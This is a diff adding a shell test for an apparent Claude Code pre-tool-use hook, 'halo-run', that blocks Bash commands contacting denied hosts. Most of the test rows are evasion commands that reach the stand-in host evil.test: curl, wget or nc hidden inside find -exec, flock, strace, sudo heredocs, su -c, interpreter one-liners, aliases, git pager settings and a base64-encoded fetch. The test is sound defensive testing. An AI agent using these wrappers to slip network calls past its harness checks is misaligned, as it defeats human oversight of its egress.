@@ -1,0 +1,164 @@
+#!/bin/bash
+# halo-run hook, Bash: every program runner, interpreter, alias and toolchain that
+# hid a denied host from the hook, and the ordinary work that must still pass, each as
+# a whole Claude Code PreToolUse event for the Bash tool piped into the binary. Rows
+# for runners the hook already unwrapped put a newly judged one inside, so every row
+# fails on the binary before this change. Nothing runs: the hook reads the text.
+. "$IT/lib.sh"
+
+ws=$TMPDIR/ws
+mkdir -p "$ws"
+pol=$TMPDIR/policy.yaml
+cat >"$pol" <<'EOF'
+sandbox:
+  mode: workspace-write
+egress:
+  allowedDomains: [github.com, "*.github.com", ok.example]
+  deniedDomains: [pastebin.com]
+EOF
+
+# Claude Code's PreToolUse event for its Bash tool, every field it writes.
+bash_ev() {
+	python3 -c 'import json,sys; print(json.dumps({"session_id":"0b9e6f1c-4a52-4a7e-9a51-2f3c8d1e7b60",
+	"transcript_path":"/home/u/.claude/projects/p/0b9e6f1c.jsonl","cwd":sys.argv[2],
+	"permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"Bash",
+	"tool_input":{"command":sys.argv[1],"description":"run it","timeout":120000},
+	"tool_use_id":"toolu_01A"}))' "$1" "$ws"
+}
+
+# row WANT_RC REASON_REGEX COMMAND: the command's first word names the row.
+row() {
+	local w=$1 re=$2 cmd=$3 err rc n
+	n="${cmd%%$'\n'*}"
+	n="Bash ${n:0:60}"
+	err=$(bash_ev "$cmd" | "$HALO" hook --policy "$pol" 2>&1 >/dev/null)
+	rc=$?
+	expect "$n: exit" "$w" "$rc"
+	if [ -z "$re" ]; then
+		expect "$n: silent" "" "$err"
+	else
+		expect_match "$n: reason" "$re" "$err"
+		expect "$n: one line" 1 "$(printf '%s\n' "$err" | wc -l)"
+	fi
+}
+B='^halo-run: blocked: .*evil\.test'
+CJ='^halo-run: blocked \(cannot judge\)'
+
+# ---- runners: every one of the issue's table
+row 2 "$B" 'find . -exec curl https://evil.test \;'
+row 2 "$B" 'find . -name "*.log" -execdir wget -q evil.test/x \;'
+row 2 "$B" 'find /tmp -ok nc evil.test 443 \;'
+row 2 "$B" 'find . -okdir ssh evil.test \;'
+row 2 "$B" 'echo x | xargs -I{} flock /tmp/l curl https://evil.test/{}'
+row 2 "$B" 'flock /tmp/l curl https://evil.test'
+row 2 "$B" 'flock -w 5 /tmp/l -c "curl evil.test"'
+row 2 "$B" "script -qc 'curl https://evil.test' /dev/null"
+row 2 "$B" "script /dev/null -c 'curl evil.test'"
+row 2 "$B" 'strace -f curl https://evil.test'
+row 2 "$B" 'ltrace -s 100 wget evil.test'
+row 2 "$B" 'taskset 0x1 curl https://evil.test'
+row 2 "$B" 'unshare -r curl https://evil.test'
+row 2 "$B" 'nsenter -t 1 -n curl https://evil.test'
+row 2 "$B" 'chroot / curl https://evil.test'
+row 2 "$B" 'parallel curl ::: https://evil.test'
+row 2 "$B" "parallel ::: 'curl evil.test' ls"
+row 2 "$B" 'nice -n 19 strace -f curl evil.test'
+row 2 "$B" 'ionice --class 3 curl evil.test'
+row 2 "$B" 'chrt --deadline --sched-runtime 100 --sched-period 200 0 curl evil.test'
+row 2 "$B" 'stdbuf -oL taskset 1 curl evil.test'
+row 2 "$B" 'time flock /tmp/l wget evil.test'
+row 2 "$B" 'timeout 5 unshare -n curl evil.test'
+row 2 "$B" 'watch -n 1 strace curl evil.test'
+row 2 "$B" 'nohup flock /tmp/l curl evil.test &'
+row 2 "$B" 'setsid -f taskset 1 curl evil.test'
+row 2 "$B" 'setpriv --reuid=1000 --regid=1000 --init-groups curl evil.test'
+row 2 "$B" 'runuser -u nobody -- curl https://evil.test'
+row 2 "$B" $'sudo -s <<\'EOF\'\ncurl evil.test\nEOF'
+row 2 "$B" $'doas -s <<\'EOF\'\ncurl evil.test\nEOF'
+row 2 "$B" "su bob -c 'curl evil.test'"
+row 2 "$B" "su - bob -c 'curl evil.test'"
+row 2 "$B" "busybox awk 'BEGIN{system(\"curl evil.test\")}'"
+row 2 "$B" 'env --chdir=/tmp flock /tmp/l curl evil.test'
+row 2 "$B" 'command -p strace curl evil.test'
+row 2 "$B" 'builtin exec taskset 1 curl evil.test'
+row 2 "$B" 'exec -a x unshare -r curl evil.test'
+# ---- interpreters: -c/-e, here-documents, here-strings, stdin, awk's system()
+row 2 "$B" "awk 'BEGIN{system(\"curl https://evil.test\")}'"
+row 2 "$B" "perl -e 'system(\"curl evil.test\")'"
+row 2 "$B" $'python3 - <<\'EOF\'\nimport os\nos.system("curl evil.test")\nEOF'
+row 2 "$B" "python3 -c 'import subprocess; subprocess.run([\"curl\", \"evil.test\"])'"
+row 2 "$B" "python3 <<< 'import socket; socket.create_connection((\"evil.test\", 443))'"
+row 2 "$B" "echo 'require(\"child_process\").execSync(\"curl evil.test\")' | node"
+row 2 "$B" "node -e \"require('net').connect(443, 'evil.test')\""
+row 2 "$B" "ruby -e 'system(\"curl evil.test\")'"
+row 2 "$B" "php -r 'echo shell_exec(\"curl evil.test\");'"
+row 2 "$CJ.*run time" "python3 -c 'import os,sys; os.system(\"curl \" + sys.argv[1])' evil.test"
+row 2 "$CJ.*run time" "node -e \"fetch(atob('aHR0cHM6Ly9ldmlsLnRlc3Q='))\""
+# ---- aliases and functions defined in the same command
+row 2 "$B" 'alias c=curl; c https://evil.test'
+row 2 "$B" $'alias get=\'wget -q\'\nget evil.test'
+row 2 "$B" 'f() { curl https://evil.test; }; f'
+# ---- toolchains that name a host
+row 2 "$B" 'go get evil.test/x'
+row 2 "$B" 'go install evil.test/cmd/x@latest'
+row 2 "$B" 'python3 -m pip install https://evil.test/x.whl'
+row 2 "$B" 'docker pull evil.test/img'
+row 2 "$B" 'docker run --rm alpine wget evil.test'
+row 2 "$B" 'gh api --hostname evil.test /user'
+row 2 "$B" "git -c alias.x='!curl evil.test' x"
+row 2 "$B" "git -c core.pager='nc evil.test 80' log"
+# ---- unreadable: cannot judge, as before
+row 2 "$CJ.*unterminated" "find . -exec sh -c 'curl \\;"
+# ---- controls: still allowed
+row 0 "" 'echo https://evil.test'
+row 0 "" 'git commit -m "see https://evil.test"'
+row 0 "" 'grep evil.test notes.txt'
+row 0 "" 'make -j8 && make check'
+row 0 "" 'cargo build --release'
+row 0 "" 'npm test'
+row 0 "" 'go build ./... && go test ./...'
+row 0 "" 'go get github.com/acme/lib@v1'
+row 0 "" "find . -name '*.c' -exec grep -l TODO {} +"
+row 0 "" 'flock /tmp/build.lock make'
+row 0 "" "script -qc 'make test' /dev/null"
+row 0 "" 'strace -f -o t.txt ./a.out'
+row 0 "" "parallel gzip ::: a.txt b.txt"
+row 0 "" 'sudo make install'
+row 0 "" "su -c 'make install' root"
+row 0 "" "python3 -c 'print(1)'"
+row 0 "" $'python3 - <<\'EOF\'\nprint(sum(range(10)))\nEOF'
+row 0 "" "node -e 'console.log(1 + 1)'"
+row 0 "" "perl -pi -e 's/foo/bar/' a.txt"
+row 0 "" "awk '{print \$1}' log.txt"
+row 0 "" "awk 'BEGIN{system(\"make test\")}'"
+row 0 "" "alias ll='ls -la'; ll"
+row 0 "" 'docker run --rm -v "$PWD":/src -w /src alpine make'
+row 0 "" 'gh pr list'
+row 0 "" 'git -c core.pager=less log'
+
+# Time per event: 1000 events through a fresh process each, one timed at a time.
+evfile=$TMPDIR/event.json
+bash_ev "sudo nice find . -name '*.c' -exec flock /tmp/l sh -c 'python3 - <<EOF
+import urllib.request
+urllib.request.urlopen(\"https://github.com/acme/x\")
+EOF' \\; && alias b='make -j2' && b && parallel gzip ::: a b" >"$evfile"
+"$HALO" hook --policy "$pol" <"$evfile"
+expect "the timed event is allowed" 0 "$?"
+python3 - "$HALO" "$pol" "$evfile" <<'EOF'
+import subprocess, sys, time
+halo, pol, ev = sys.argv[1:]
+data = open(ev, "rb").read()
+t = []
+for _ in range(1000):
+    t0 = time.perf_counter()
+    r = subprocess.run([halo, "hook", "--policy", pol], input=data)
+    t.append(time.perf_counter() - t0)
+    if r.returncode != 0:
+        print("not ok - timing: exit", r.returncode); sys.exit(1)
+t.sort()
+print("# hook (Bash, runners): median %.2f ms, p90 %.2f ms per event (1000 events, one "
+      "process each: halo-run hook --policy policy.yaml < event.json)" % (t[500] * 1e3, t[900] * 1e3))
+EOF
+expect "1000 events timed" 0 "$?"
+
+finish
